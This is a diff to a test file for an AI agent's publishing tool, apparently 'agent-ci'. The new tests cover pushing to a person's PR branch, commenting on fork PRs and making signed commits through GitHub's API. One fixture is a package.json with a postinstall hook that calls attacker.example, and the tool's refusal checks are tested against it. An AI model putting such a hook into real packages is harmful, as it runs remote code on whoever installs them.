@@ -11,6 +11,7 @@ import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { buildProgram } from "../../src/cli.js";
 import { scanForSecrets, type RunReport } from "../../src/report/index.js";
+import { SIGNED_COMMIT_MAX_BYTES } from "../../src/publish/options.js";
 import {
   DEFAULT_AUTHOR,
   publishPullRequest,
@@ -59,6 +60,7 @@ beforeAll(async () => {
   git(bare(), "branch", "feature", base);
   fake = await startFakeGitHub({
     token: TOKEN,
+    repositories: { "acme/widgets": bare() },
     pulls: [
       {
         number: 34,
@@ -123,6 +125,26 @@ const patchWriting = (files: Record<string, string>) => writePatch(workspace, fi
 
 function options(outDir: string, repoDir: string, extra: Partial<PublishPrOptions> = {}): PublishPrOptions {
   return publishOptions({ remote, githubUrl: fake.url, token: TOKEN }, outDir, repoDir, extra);
+}
+
+/** The run's folder with `files` written (and modes set) as its patch; publish must refuse it with nothing pushed. */
+async function refusedWithNothingPushed(
+  runId: string,
+  files: Record<string, string | Buffer>,
+  modes: Record<string, number> = {},
+  extra: Partial<PublishPrOptions> = {},
+  more: Parameters<typeof writePatch>[3] = {},
+): Promise<string> {
+  const out = variant({ runId, patch: writePatch(workspace, files, modes, more) });
+  const refs = remoteBranches();
+  const writes = fake.writes().length;
+  const error = await publishPullRequest(options(out, await checkout(), extra)).catch((e: unknown) => e);
+  expect(error).toBeInstanceOf(PublishRefusedError);
+  expect(remoteBranches()).toEqual(refs);
+  expect(fake.writes().length).toBe(writes);
+  // The artifact is kept as it was: the refusal changes nothing in the folder.
+  expect(fs.existsSync(path.join(out, "patch.diff"))).toBe(true);
+  return (error as Error).message;
 }
 
 describe("agent-ci publish", () => {
@@ -278,7 +300,7 @@ describe("agent-ci publish", () => {
     expect(fake.writes().length).toBe(writes);
   });
 
-  it("a run on a person's PR becomes a new PR against that PR's branch; a fork's PR is refused", async () => {
+  it("a run on a person's PR becomes a new PR against that PR's branch unless push_to_pr_branch says otherwise", async () => {
     const result = await publishPullRequest(
       options(
         variant({ runId: "on-pr-35", trigger: { target: { number: 35, isPullRequest: true } } }),
@@ -287,15 +309,43 @@ describe("agent-ci publish", () => {
     );
     expect(fake.pulls.get(result.pullNumber)?.base.ref).toBe("feature");
     expect(git(bare(), "rev-parse", "refs/heads/feature")).toBe(base);
+  });
 
-    await expect(
-      publishPullRequest(
-        options(
-          variant({ runId: "on-pr-36", trigger: { target: { number: 36, isPullRequest: true } } }),
-          await checkout(),
-        ),
-      ),
-    ).rejects.toThrow(/comes from a fork \(stranger\/widgets\)/);
+  it("a fork's PR gets a comment with the patch and nothing pushed, with or without push_to_pr_branch", async () => {
+    const out = variant({
+      runId: "on-pr-36",
+      trigger: { event: "issue_comment", target: { number: 36, isPullRequest: true } },
+    });
+    const refs = remoteBranches();
+    const pulls = fake.pulls.size;
+    const before = fake.writes().length;
+    const result = await publishPullRequest(options(out, await checkout(), { pushToPrBranch: true }));
+    expect(result).toMatchObject({
+      action: "commented",
+      pullNumber: 36,
+      pushed: false,
+      branch: "",
+      commitSha: "",
+    });
+    const writes = fake.writes().slice(before);
+    expect(writes.map((w) => `${w.method} ${w.path}`)).toEqual([
+      "POST /repos/acme/widgets/issues/36/comments",
+    ]);
+    const body = (JSON.parse(writes[0]?.body ?? "{}") as { body: string }).body;
+    expect(body.split("\n")[0]).toBe("<!-- agent-ci-publish: on-pr-36 -->");
+    expect(body).toContain(
+      "**agent-ci did not push to this pull request**: it comes from a fork (<code>stranger/widgets</code>)",
+    );
+    expect(body).toContain(fs.readFileSync(path.join(out, "patch.diff"), "utf8").trimEnd());
+    expect(body).toContain("- <code>src/calc.js</code> (+1 −1)");
+    expect(remoteBranches()).toEqual(refs);
+    expect(fake.pulls.size).toBe(pulls);
+    expect(fs.existsSync(path.join(out, "patch.diff"))).toBe(true);
+
+    // Again, and without the opt-in: the comment is there already; nothing is written.
+    const again = await publishPullRequest(options(out, await checkout()));
+    expect(again.action).toBe("commented");
+    expect(fake.writes().length).toBe(before + 1);
   });
 
   it("refuses a patch touching .github/workflows unless an allow rule names it", async () => {
@@ -418,25 +468,6 @@ describe("agent-ci publish", () => {
     );
     expect(remoteBranches().some((b) => b.startsWith("agent-ci/run-secret"))).toBe(false);
   });
-
-  /** The run's folder with `files` written (and modes set) as its patch; publish must refuse it with nothing pushed. */
-  async function refusedWithNothingPushed(
-    runId: string,
-    files: Record<string, string | Buffer>,
-    modes: Record<string, number> = {},
-    extra: Partial<PublishPrOptions> = {},
-  ): Promise<string> {
-    const out = variant({ runId, patch: writePatch(workspace, files, modes) });
-    const refs = remoteBranches();
-    const writes = fake.writes().length;
-    const error = await publishPullRequest(options(out, await checkout(), extra)).catch((e: unknown) => e);
-    expect(error).toBeInstanceOf(PublishRefusedError);
-    expect(remoteBranches()).toEqual(refs);
-    expect(fake.writes().length).toBe(writes);
-    // The artifact is kept as it was: the refusal changes nothing in the folder.
-    expect(fs.existsSync(path.join(out, "patch.diff"))).toBe(true);
-    return (error as Error).message;
-  }
 
   const packageWithPostinstall =
     '{\n  "name": "calc",\n  "scripts": {\n    "postinstall": "node -e \\"require(\'https\').get(\'https://attacker.example\')\\""\n  }\n}\n';
@@ -661,6 +692,7 @@ describe("agent-ci publish", () => {
     vi.stubEnv("GH_TOKEN", TOKEN);
     vi.stubEnv("GITHUB_API_URL", fake.url);
     vi.stubEnv("GITHUB_REPOSITORY", "");
+    vi.stubEnv("GITHUB_SERVER_URL", "");
     const help = await cli("publish", "--help");
     expect(help.out).toContain("Usage: agent-ci publish [options] <out-dir>");
     expect(help.out).toMatch(/GITHUB_TOKEN start no workflows; use a PAT or\s+a\s+GitHub App token/);
@@ -672,6 +704,23 @@ describe("agent-ci publish", () => {
     const result = JSON.parse(published.out) as Record<string, unknown>;
     expect(result).toMatchObject({ action: "created", branch: "agent-ci/run-from-cli" });
     expect(fake.pulls.get(Number(result.pr_number))?.head.ref).toBe("agent-ci/run-from-cli");
+    expect(result.commit_url).toBe(`https://github.com/acme/widgets/commit/${String(result.commit_sha)}`);
+
+    // --use-commit-signing: the commit is GitHub's, as createCommitOnBranch answered it.
+    expect(help.out).toMatch(/--push-to-pr-branch\s/);
+    expect(help.out).toMatch(/--use-commit-signing\s/);
+    const signed = await cli(
+      "publish",
+      variant({ runId: "cli-signed" }),
+      "--repo-dir",
+      repoDir,
+      "--json",
+      "--use-commit-signing",
+    );
+    expect(signed.code, signed.err).toBe(0);
+    const made = JSON.parse(signed.out) as { commit_sha: string; commit_url: string };
+    expect(made.commit_sha).toBe(fake.graphql.mutations.at(-1)?.oid);
+    expect(made.commit_url).toBe(`https://github.example/acme/widgets/commit/${made.commit_sha}`);
 
     // --link-issue: the Action's link_issue, with its values and its default.
     expect(help.out.replace(/\s+/g, " ")).toMatch(
@@ -715,6 +764,286 @@ describe("agent-ci publish", () => {
     expect(refused.code).toBe(2);
     expect(refused.err).toMatch(
       /agent-ci publish: not published:\n- the patch is \d+ bytes, over the limit of 10/,
+    );
+  });
+});
+
+/** A person's pull request #number from `branch` (made at the run's base) into main. */
+function personPull(number: number, branch: string): void {
+  git(bare(), "branch", branch, base);
+  fake.pulls.set(number, {
+    number,
+    title: "A person's change",
+    body: "The person's own description.",
+    user: { login: "octocat" },
+    head: { ref: branch, sha: base, repo: "acme/widgets" },
+    base: { ref: "main", sha: base, repo: "acme/widgets" },
+    diff: "",
+  });
+}
+
+const onPull = (runId: string, number: number, change: VariantChange = {}) =>
+  variant({ runId, trigger: { event: "issue_comment", target: { number, isPullRequest: true } }, ...change });
+
+const SERVER = "https://github.example";
+const RUN_URL = `${SERVER}/acme/widgets/actions/runs/7`;
+
+describe("following up on a person's pull request (push_to_pr_branch)", () => {
+  it("pushes one commit onto the PR's branch, on the run's base; the PR is not re-created and a comment says what was pushed", async () => {
+    personPull(40, "person-1");
+    const pulls = fake.pulls.size;
+    const before = fake.writes().length;
+    const out = onPull("follow-1", 40);
+    const result = await publishPullRequest(
+      options(out, await checkout(), { pushToPrBranch: true, serverUrl: SERVER, runUrl: RUN_URL }),
+    );
+    expect(result).toMatchObject({
+      action: "updated",
+      pullNumber: 40,
+      branch: "person-1",
+      pushed: true,
+      signed: false,
+      commitUrl: `${SERVER}/acme/widgets/commit/${result.commitSha}`,
+    });
+    // One new commit on top of the branch's head at the run's base: never a force-push, never a new PR.
+    expect(git(bare(), "rev-parse", "refs/heads/person-1")).toBe(result.commitSha);
+    expect(git(bare(), "rev-list", "--parents", "-n", "1", result.commitSha)).toBe(
+      `${result.commitSha} ${base}`,
+    );
+    expect(git(bare(), "show", `${result.commitSha}:src/calc.js`)).toContain("a + b");
+    expect(fake.pulls.size).toBe(pulls);
+    expect(fake.pulls.get(40)?.body).toBe("The person's own description.");
+    const writes = fake.writes().slice(before);
+    expect(writes.map((w) => `${w.method} ${w.path}`)).toEqual([
+      "POST /repos/acme/widgets/issues/40/comments",
+    ]);
+    const comment = (JSON.parse(writes[0]?.body ?? "{}") as { body: string }).body;
+    expect(comment.split("\n")[0]).toBe("<!-- agent-ci-publish: follow-1 -->");
+    expect(comment).toContain(
+      `**agent-ci pushed [<code>${result.commitSha.slice(0, 12)}</code>](${SERVER}/acme/widgets/commit/${result.commitSha}) to <code>person-1</code>**, on top of <code>${base.slice(0, 12)}</code>, the head the run started from: agent-ci: Fixed add(): it subtracted.`,
+    );
+    expect(comment).toContain("- <code>src/calc.js</code> (+1 −1)");
+    expect(comment).toContain(`From run <code>follow-1</code> ([workflow run](${RUN_URL})).`);
+    expect(comment).not.toContain("Verified");
+
+    // Publishing the same run again: the branch holds the change, the comment is there; nothing is written.
+    const again = await publishPullRequest(
+      options(out, await checkout(), { pushToPrBranch: true, serverUrl: SERVER }),
+    );
+    expect(again).toEqual({ ...result, action: "unchanged", pushed: false });
+    expect(fake.writes().length).toBe(before + 1);
+  });
+
+  it("G4 refuses a branch that moved since the run's base, with nothing pushed and the artifact kept", async () => {
+    personPull(41, "person-2");
+    const mover = await checkout();
+    await gitOverHttp(mover, "checkout", "-q", "person-2");
+    fs.writeFileSync(path.join(mover, "README.md"), "the person pushed meanwhile\n");
+    git(mover, "add", "-A");
+    git(mover, "commit", "-qm", "a person's commit");
+    await gitOverHttp(mover, "push", "-q", "origin", "person-2");
+    const moved = git(mover, "rev-parse", "HEAD");
+
+    const out = onPull("follow-moved", 41);
+    const writes = fake.writes().length;
+    const mutations = fake.graphql.mutations.length;
+    for (const useCommitSigning of [false, true]) {
+      const error = await publishPullRequest(
+        options(out, await checkout(), { pushToPrBranch: true, useCommitSigning }),
+      ).catch((e: unknown) => e);
+      expect(error).toBeInstanceOf(PublishRefusedError);
+      expect((error as Error).message).toBe(
+        `not published: person-2 is at ${moved}, but the run was based on ${base}: the branch moved since the run. Publish never force-pushes, and nothing was pushed; the patch stays in the run's artifact. Re-run the agent on the branch's head.`,
+      );
+    }
+    expect(git(bare(), "rev-parse", "refs/heads/person-2")).toBe(moved);
+    expect(fake.writes().length).toBe(writes);
+    expect(fake.graphql.mutations.length).toBe(mutations);
+    expect(fs.readFileSync(path.join(out, "patch.diff"), "utf8")).toContain("+  return a + b;");
+  });
+
+  it("refuses a closed pull request's branch", async () => {
+    personPull(43, "person-closed");
+    const pull = fake.pulls.get(43);
+    if (pull) pull.state = "closed";
+    await expect(
+      publishPullRequest(options(onPull("follow-closed", 43), await checkout(), { pushToPrBranch: true })),
+    ).rejects.toThrow(
+      /pull request #43 is closed; publish pushes onto the branch of an open pull request only/,
+    );
+    expect(git(bare(), "rev-parse", "refs/heads/person-closed")).toBe(base);
+  });
+});
+
+describe("verified commits (use_commit_signing): createCommitOnBranch", () => {
+  it("sends the mutation as GitHub's schema defines it; GitHub's signed commit is the patch on the run's base, shown in the PR and the result", async () => {
+    const out = variant({ runId: "signed-1" });
+    const before = fake.requests.length;
+    const result = await publishPullRequest(
+      options(out, await checkout(), { useCommitSigning: true, serverUrl: SERVER }),
+    );
+    // The request on the wire: POST /graphql, the document and its variables, nothing else.
+    const sent = fake.requests.slice(before).filter((r) => r.method === "POST" && r.path === "/graphql");
+    expect(sent).toHaveLength(1);
+    const request = JSON.parse(sent[0]?.body ?? "{}") as { query: string; variables: { input: unknown } };
+    expect(Object.keys(request).sort()).toEqual(["query", "variables"]);
+    expect(request.query.replace(/\s+/g, " ")).toBe(
+      "mutation CreateCommitOnBranch($input: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $input) { commit { oid url } } }",
+    );
+    const fixed = git(workspace, "show", "HEAD:src/calc.js").replace("a - b", "a + b");
+    expect(request.variables.input).toEqual({
+      branch: { repositoryNameWithOwner: "acme/widgets", branchName: "agent-ci/run-signed-1" },
+      expectedHeadOid: base,
+      message: {
+        headline: "agent-ci: Fixed add(): it subtracted.",
+        body: "Fixed add(): it subtracted.\n\nThe sum now adds its operands.\n\nagent-ci run signed-1",
+      },
+      fileChanges: {
+        additions: [{ path: "src/calc.js", contents: Buffer.from(`${fixed}\n`).toString("base64") }],
+        deletions: [],
+      },
+    });
+    // GitHub's answer is the result: its oid on the branch, its URL, a signed commit by the token's account.
+    const made = fake.graphql.mutations.at(-1)?.oid ?? "";
+    expect(result).toMatchObject({
+      action: "created",
+      branch: "agent-ci/run-signed-1",
+      commitSha: made,
+      commitUrl: `https://github.example/acme/widgets/commit/${made}`,
+      pushed: true,
+      signed: true,
+    });
+    expect(git(bare(), "rev-parse", "refs/heads/agent-ci/run-signed-1")).toBe(made);
+    expect(git(bare(), "rev-list", "--parents", "-n", "1", made)).toBe(`${made} ${base}`);
+    expect(git(bare(), "cat-file", "commit", made)).toMatch(/^gpgsig -----BEGIN SSH SIGNATURE-----/m);
+    expect(git(bare(), "log", "-1", "--format=%an", made)).toBe("github-actions[bot]");
+    expect(git(bare(), "show", `${made}:src/calc.js`)).toBe(fixed);
+    // The same tree a git push of the patch gives.
+    const pushed = await publishPullRequest(options(variant({ runId: "unsigned-1" }), await checkout()));
+    expect(git(bare(), "rev-parse", `${made}^{tree}`)).toBe(
+      git(bare(), "rev-parse", `${pushed.commitSha}^{tree}`),
+    );
+    expect(fake.pulls.get(result.pullNumber)?.body).toContain(
+      `Commit [<code>${made.slice(0, 12)}</code>](https://github.example/acme/widgets/commit/${made}) was made through GitHub's API (\`use_commit_signing\`): GitHub signed it.`,
+    );
+
+    // Again: the branch holds the change; no second commit is asked for.
+    const mutations = fake.graphql.mutations.length;
+    const again = await publishPullRequest(
+      options(out, await checkout(), { useCommitSigning: true, serverUrl: "https://github.example" }),
+    );
+    expect(again).toEqual({ ...result, action: "unchanged", pushed: false });
+    expect(fake.graphql.mutations.length).toBe(mutations);
+  });
+
+  it("on a person's pull request: additions and deletions through the API, a signed commit on its branch, and the comment says so", async () => {
+    personPull(42, "person-signed");
+    const removing = onPull("follow-signed", 42, {
+      patch: writePatch(workspace, { "docs/add.md": "# add\n" }, {}, { removed: ["package.json"] }),
+    });
+    const result = await publishPullRequest(
+      options(removing, await checkout(), {
+        pushToPrBranch: true,
+        useCommitSigning: true,
+        serverUrl: SERVER,
+      }),
+    );
+    const input = fake.graphql.mutations.at(-1)?.input as { fileChanges: unknown; branch: unknown };
+    expect(input.branch).toEqual({ repositoryNameWithOwner: "acme/widgets", branchName: "person-signed" });
+    expect(input.fileChanges).toEqual({
+      additions: [{ path: "docs/add.md", contents: Buffer.from("# add\n").toString("base64") }],
+      deletions: [{ path: "package.json" }],
+    });
+    expect(result).toMatchObject({ action: "updated", branch: "person-signed", pushed: true, signed: true });
+    expect(git(bare(), "rev-list", "--parents", "-n", "1", "refs/heads/person-signed")).toBe(
+      `${result.commitSha} ${base}`,
+    );
+    expect(git(bare(), "ls-tree", "--name-only", "-r", result.commitSha).split("\n").sort()).toEqual([
+      ".claude/settings.json",
+      "docs/add.md",
+      "src/calc.js",
+    ]);
+    const comment = fake.comments.filter((c) => c.issue_number === 42).at(-1)?.body ?? "";
+    expect(comment).toContain(
+      `](https://github.example/acme/widgets/commit/${result.commitSha}) to <code>person-signed</code>**`,
+    );
+    expect(comment).toContain(
+      "The commit was made through GitHub's API (`use_commit_signing`), so GitHub signed it and shows it as Verified.",
+    );
+  });
+
+  it("refuses, naming each file and why, a patch the mutation cannot carry: a new executable, a mode change, a symbolic link, files over the limit; nothing is pushed or asked", async () => {
+    const mutations = fake.graphql.mutations.length;
+    const calcBytes = Number(git(workspace, "cat-file", "-s", "HEAD:src/calc.js"));
+    const message = await refusedWithNothingPushed(
+      "signed-refused",
+      {
+        "tools/run.sh": "#!/bin/sh\necho hi\n",
+        "assets/zeros.bin": Buffer.alloc(SIGNED_COMMIT_MAX_BYTES + 1),
+      },
+      { "tools/run.sh": 0o755, "src/calc.js": 0o755 },
+      { allowFindings: ["executable", "large_binary"], useCommitSigning: true },
+      { links: { "docs/link": "../src/calc.js" } },
+    );
+    expect(message).toBe(
+      [
+        "not published: use_commit_signing (--use-commit-signing) has GitHub make the commit through its API (createCommitOnBranch), which cannot carry this patch exactly:",
+        '- "docs/link": a symbolic link: the API writes regular files only',
+        '- "src/calc.js": changes a regular file (100644) into an executable file (100755): the API sets no file mode',
+        '- "tools/run.sh": a new executable file (100755): the API sets no file mode',
+        `- the files the API must be sent whole come to ${SIGNED_COMMIT_MAX_BYTES + 1 + calcBytes + 18 + 14} bytes, over agent-ci's limit of ${SIGNED_COMMIT_MAX_BYTES} for one commit through the API (largest: "assets/zeros.bin" ${SIGNED_COMMIT_MAX_BYTES + 1} bytes, "src/calc.js" ${calcBytes} bytes, "tools/run.sh" 18 bytes, "docs/link" 14 bytes)`,
+        "Nothing was pushed; the patch stays in the run's artifact. Publish it without use_commit_signing to push it as a git commit (unsigned).",
+      ].join("\n"),
+    );
+    expect(fake.graphql.mutations.length).toBe(mutations);
+  });
+
+  it("a branch that moves while GitHub makes the commit: GitHub's STALE_DATA fails the step, and no commit is made", async () => {
+    const out = variant({ runId: "signed-race" });
+    let moved = "";
+    fake.graphql.beforeMutation = () => {
+      // Someone pushes to the new branch between publish creating it and GitHub reading it.
+      moved = git(bare(), "commit-tree", `${base}^{tree}`, "-p", base, "-m", "racing");
+      git(bare(), "update-ref", "refs/heads/agent-ci/run-signed-race", moved);
+    };
+    try {
+      const attempt = publishPullRequest(options(out, await checkout(), { useCommitSigning: true }));
+      await expect(attempt).rejects.toBeInstanceOf(PublishFailedError);
+      await expect(attempt).rejects.toThrow(
+        /^not published: agent-ci\/run-signed-race moved on acme\/widgets while publishing \(it is no longer at [0-9a-f]{40}\); GitHub made no commit\. .*\nGitHub said: .*STALE_DATA: Expected branch to point to/s,
+      );
+    } finally {
+      fake.graphql.beforeMutation = undefined;
+    }
+    expect(git(bare(), "rev-parse", "refs/heads/agent-ci/run-signed-race")).toBe(moved);
+    expect(fake.graphql.mutations.at(-1)?.oid).toBeUndefined();
+  });
+
+  it("a token that may not write: GitHub's FORBIDDEN names the permission", async () => {
+    fake.inject({
+      method: "POST",
+      path: /^\/graphql$/,
+      response: {
+        status: 200,
+        body: {
+          data: { createCommitOnBranch: null },
+          errors: [
+            {
+              type: "FORBIDDEN",
+              path: ["createCommitOnBranch"],
+              locations: [{ line: 2, column: 3 }],
+              message: "Resource not accessible by integration",
+            },
+          ],
+        },
+      },
+    });
+    await expect(
+      publishPullRequest(
+        options(variant({ runId: "signed-forbidden" }), await checkout(), { useCommitSigning: true }),
+      ),
+    ).rejects.toThrow(
+      /^not published: creating the commit on agent-ci\/run-signed-forbidden through GitHub's API \(createCommitOnBranch\): GitHub's GraphQL API answered with errors \(FORBIDDEN: Resource not accessible by integration\)\. Give the publishing job `permissions: contents: write`/,
     );
   });
 });
